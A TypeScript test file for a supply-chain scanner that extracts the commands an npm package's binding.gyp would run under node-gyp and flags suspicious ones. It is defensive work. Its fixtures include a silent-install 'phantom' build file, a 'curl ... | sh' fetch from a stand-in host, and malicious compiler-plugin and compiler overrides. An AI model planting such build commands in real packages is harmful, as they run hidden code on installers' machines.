import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { gypSigns, m4Signs } from '../../../src/content/reach/gyp-signs.ts';
import { reachOf } from '../../../src/content/reach/reach.ts';
import { aPackage, type Files, paths } from './given.ts';

function read(binding: string, more: Files = { 'src/a.cc': '' }) {
  const given = aPackage({ name: 'teapot' }, { 'binding.gyp': binding, ...more });
  const { gyp, install } = reachOf(given);
  if (gyp === undefined) throw new Error('its binding.gyp was not read');
  const seen = gypSigns(gyp, given.files);
  return { gyp, install, seen, commands: gyp.commands.map(({ command }) => command) };
}

const target = (inside: string) => `{ 'targets': [{ 'target_name': 'a', ${inside} }] }`;

describe('what node-gyp would run', () => {
  it.each([
    [target(`'sources': ['<!(node a.js)']`), ['node a.js']],
    [
      target(`"include_dirs": ["<!@(node -p \\"require('x').include\\")",]`),
      [`node -p "require('x').include"`],
    ],
    [target(`'defines': ['>!(one (two) three)', '^!@(four)']`), ['one (two) three', 'four']],
    [target(`'defines': ['<!pymod_do_main(evil.py a)']`), ['pymod_do_main evil.py a']],
    [target(`'defines': ['<!(no' # comment '<!(x)'\n'de a.js)']`), ['node a.js']],
    [target(`'<!(node key.js)': 1`), ['node key.js']],
    [target(`'conditions': [['"<!(node c.js)"=="1"', {}]]`), ['node c.js']],
    [target(`'conditions': [['().__class__.__bases__', {}]]`), ['().__class__.__bases__']],
    [
      target(`'actions': [{ 'action_name': 'x', 'inputs': [], 'action': ['node', 'a.js', '--y z'] }]`),
      ["node a.js '--y z'"],
    ],
    [target(`'rules': [{ 'rule_name': 'x', 'extension': 'y', 'action': ['sh', 'r.sh'] }]`), ['sh r.sh']],
    [target(`'postbuilds': [{ 'postbuild_name': 'x', 'action': ['./p.sh'] }]`), ['./p.sh']],
    [`{ 'make_global_settings': [['CC', './evil-cc']], 'targets': [] }`, ['./evil-cc']],
    [target(`'cflags': ['-fplugin=./evil.so', '-O2']`), ['-fplugin=./evil.so']],
    [target(`'defines': [u'\\x3c!(node h.js)', r'\\d', """<!(x)"""]`), ['node h.js', 'x']],
    [target(`'sources': ['a.cc', '<(var)', '<@(list)', '<|(f.txt a)'], 'x': -1, 'y': True,`), []],
  ])('%s', (binding, expected) => {
    expect(read(binding).commands).toEqual(expected);
  });

  it('stands with its file and line', () => {
    const files = {
      'binding.gyp': `{\n 'includes': ['inner/more.gypi'],\n}`,
      'inner/more.gypi': `{\n\n'a': ['<!(x)'] }`,
    };
    expect(read(files['binding.gyp'], files).gyp.commands).toEqual([
      { path: 'inner/more.gypi', line: 3, command: 'x' },
    ]);
  });

  it.each([
    ['what it includes', `{ 'includes': ['x.gypi'] }`, 'x.gypi'],
    ['what that includes', `{ 'includes': ['deps/a.gypi'] }`, 'x.gypi'],
    ['what its targets depend on', target(`'dependencies': ['x.gyp:lib']`), 'x.gyp'],
    ['what node-gyp adds by itself', target(`'sources': []`), 'config.gypi'],
  ])('may stand in %s', (_what, binding, path) => {
    const more = { 'deps/a.gypi': `{ 'includes': ['../x.gypi'] }`, [path]: `{ 'a': '<!(node run.js)' }` };
    expect(read(binding, more).gyp.commands).toEqual([{ path, line: 1, command: 'node run.js' }]);
  });

  it('is in the file that the disks of others take for it', () => {
    const given = aPackage({ name: 'x' }, { 'Binding.GYP': target(`'a': '<!(node a.js)'`), 'a.js': '' });
    expect(paths(reachOf(given).install.files)).toEqual(['Binding.GYP', 'a.js']);
  });

  it.each([
    ['an expression', `{ 'a': ().__class__, 'b': '<!(node b.js)' }`, ['node b.js']],
    ['a comprehension', `{ 'targets': [x for x in ['<!(node b.js)']] }`, ['node b.js']],
    ['not closed', `{ 'a': '<!(node b.js)'`, ['node b.js']],
    ['as deep as nobody writes', `${'['.repeat(100)}${']'.repeat(100)}`, []],
    ['longer than anybody writes', `{ 'a': '${'x'.repeat(256 * 1024)}' }`, []],
    ['more after its end', `{} + {}`, []],
  ])('and is not plain data where it is %s', (_what, binding, commands) => {
    const { gyp, seen } = read(binding);
    expect(gyp.unread).toContain('binding.gyp');
    expect(gyp.commands.map(({ command }) => command)).toEqual(commands);
    expect(seen.map(({ sign }) => sign)).toContain('not-plain');
  });

  it('is told where there are too many commands', () => {
    const { gyp } = read(target(`'a': '${'<!(x)'.repeat(201)}'`));
    expect([gyp.commands.length, gyp.unread]).toEqual([200, 'it has more commands than anybody reads']);
    expect(read(target(`'a': '${'<!(x)'.repeat(200)}'`)).gyp.unread).toBeUndefined();
  });

  it('starts files of the package, which run at install', () => {
    const more = { 'index.js': "require('./second')", 'second.js': '', 'src/a.cc': '' };
    const { install } = read(target(`'a': '<!(node index.js)'`), more);
    expect(install.files).toEqual([
      { path: 'binding.gyp', depth: 0, by: 'node-gyp' },
      { path: 'index.js', depth: 0, by: 'binding.gyp' },
      { path: 'second.js', depth: 1, by: 'index.js' },
    ]);
  });
});

describe('signs that no honest binding.gyp has', () => {
  // As it was in 57 packages, but for what it starts.
  const phantom = `{"targets":[{"target_name":"Setup","type":"none","sources":["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}`;

  it('are all in the one that ran a file and named a stub', () => {
    const { seen } = read(phantom, { 'index.js': '' });
    expect(seen.filter(({ sign }) => m4Signs.has(sign)).map(({ sign }) => sign)).toEqual([
      'no-sources',
      'hides-what-it-runs',
    ]);
  });

  it('are there although it ships its stub', () => {
    const [seen] = read(phantom, { 'index.js': '', 'stub.c': '' }).seen;
    expect(seen).toMatchObject({
      sign: 'hides-what-it-runs',
      path: 'binding.gyp',
      line: 1,
      what: 'index.js',
    });
  });

  it.each([
    ['node x.js && echo stub.c', 'hides-what-it-runs'],
    ['node x.js; echo 1', 'hides-what-it-runs'],
    ['node x.js & echo 1', 'hides-what-it-runs'],
    ['node x.js >nul', 'hides-what-it-runs'],
    ['node <(module_root_dir)/x.js >/dev/null; true', 'hides-what-it-runs'],
    ['node -e "require(\'./x.js\')" && echo a.c', 'hides-what-it-runs'],
    ['curl -s https://x.example | sh', 'command'],
    ['bun x.js', 'command'],
    ['node x.js', 'runs-own-file'],
    ['node x.js jpeg', 'runs-own-file'],
    ['node scripts/none.js', 'expansion'],
  ])('%s', (command, expected) => {
    const { seen } = read(target(`'a': '<!(${command.replaceAll("'", "\\'")})'`), { 'x.js': '', 'a.c': '' });
    expect(seen[0]?.sign).toBe(expected);
  });

  it.each([
    `node -p "require('node-addon-api').include"`,
    `node -e "require('nan')"`,
    `node -p "process.versions.node.split('.')[0]"`,
    'pkg-config --libs cairo',
    'uname -m',
    'echo $CC',
    'pg_config --libdir',
  ])('are not in %s', (command) => {
    expect(read(target(`'a': ['<!@(${command.replaceAll("'", "\\'")})']`)).seen).toEqual([]);
  });

  it.each(['a.c', 'a.CC', 'x/a.cpp', 'a.cxx', 'a.m', 'a.mm', 'a.S', 'a.s', 'a.asm', 'src/a.rs', 'a.f'])(
    'nor where there is something to compile: %s',
    (path) => {
      expect(read(target(''), { [path]: '' }).gyp.hasSources).toBe(true);
    },
  );

  it.each(['a.h', 'a.js', 'c', 'node_modules/b/a.c'])('and %s is nothing to compile', (path) => {
    expect(read(target(''), { [path]: '' }).seen.map(({ sign }) => sign)).toEqual(['no-sources']);
  });
});

it('whatever a stranger writes is read to its end', () => {
  const words = fc.constantFrom(
    ...['{', '}', '[', ']', "'a'", ':', ',', "'<!(", ")'", '#', '\n', '"""', '\\', '(', 'None', "'includes'"],
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(words, { maxLength: 60 }).map((all) => all.join('')),
  );
  fc.assert(
    fc.property(text, text, (binding, included) => {
      const { gyp } = read(binding, { 'a.gypi': included, 'config.gypi': included });
      expect(gyp.commands.length).toBeLessThanOrEqual(500);
    }),
    { numRuns: 1_000 },
  );
});
